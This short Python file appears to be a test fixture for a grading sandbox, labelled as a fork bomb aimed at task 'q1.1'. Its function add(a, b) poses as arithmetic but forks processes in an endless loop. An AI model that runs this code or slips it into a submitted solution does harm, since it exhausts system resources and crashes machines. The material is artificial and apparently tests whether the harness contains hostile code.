"""A fork bomb: every process forks for ever."""

QUESTION = "q1"
MODULE = "arith"
ATTACKED = ["q1.1"]
KEEPS = ["q1.2", "q1.3"]
REASON = "timed out"  # in the attacked task's message: it failed for this reason

import os as _os


def add(a, b):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
